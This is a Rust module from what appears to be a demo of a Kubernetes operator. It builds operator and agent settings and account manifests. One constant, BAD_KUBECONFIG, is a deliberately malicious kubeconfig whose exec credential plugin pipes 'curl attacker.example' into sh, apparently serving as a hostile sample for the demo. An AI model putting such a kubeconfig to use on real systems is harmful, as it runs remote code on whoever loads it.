//! What the demo's programs are started with, and the accounts that it makes.

use std::net::IpAddr;
use std::path::Path;

use super::{OTHER_ZONE, ZONE};

/// A kubeconfig that would run a program on whoever uses it.
const BAD_KUBECONFIG: &str = "\
apiVersion: v1
kind: Config
clusters: [{name: production, cluster: {server: 'https://production.example:6443'}}]
users:
- name: admin
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1
      command: /bin/sh
      args: [-c, 'curl attacker.example | sh']
contexts: [{name: admin, context: {cluster: production, user: admin}}]
current-context: admin
";

/// The settings of the operator.
pub(crate) fn operator_settings(
    rest: u16,
    grpc: u16,
    (address, gateway): (IpAddr, u16),
    database: &Path,
) -> String {
    format!(
        "server: {{address: 127.0.0.1, port: {rest}}}
kubesvc:
  grpc: {{server: {{address: 127.0.0.1, port: {grpc}}}}}
  gateway: {{enabled: true, server: {{address: '{address}', port: {gateway}}}}}
  database: {{url: 'sqlite://{}'}}
  # Small enough to see something: an account whose zone has no agent says so after 3 s.
  dynamicAccounts: {{orphanGraceSeconds: 3, retryFrequencySeconds: 1}}
",
        database.display()
    )
}

/// The settings of an agent.
pub(crate) fn agent_settings(zone: &str, grpc: u16, health: u16) -> String {
    format!(
        "clouddriver: {{grpc: '127.0.0.1:{grpc}', insecure: true}}
server: {{host: 127.0.0.1, port: {health}}}
zoneId: {zone}
"
    )
}

/// The three accounts and their Secrets.
pub(crate) fn accounts(good_kubeconfig: &str) -> String {
    let secret = |name: &str, kubeconfig: &str| {
        let indented: String = kubeconfig.lines().map(|line| format!("    {line}\n")).collect();
        format!(
            "apiVersion: v1\nkind: Secret\nmetadata: {{name: {name}}}\nstringData:\n  kubeconfig: |\n{indented}---\n"
        )
    };
    let account = |name: &str, zone: &str, secret: &str| {
        format!(
            "apiVersion: kubesvc.io/v1alpha1\nkind: KubesvcAccount\nmetadata: {{name: {name}}}\n\
             spec:\n  zoneId: {zone}\n  kubeconfig: {{secretRef: {{name: {secret}}}}}\n---\n"
        )
    };
    [
        secret("good-kubeconfig", good_kubeconfig),
        secret("bad-kubeconfig", BAD_KUBECONFIG),
        account("good", ZONE, "good-kubeconfig"),
        account("bad", ZONE, "bad-kubeconfig"),
        account("no-agent", OTHER_ZONE, "good-kubeconfig"),
    ]
    .concat()
}
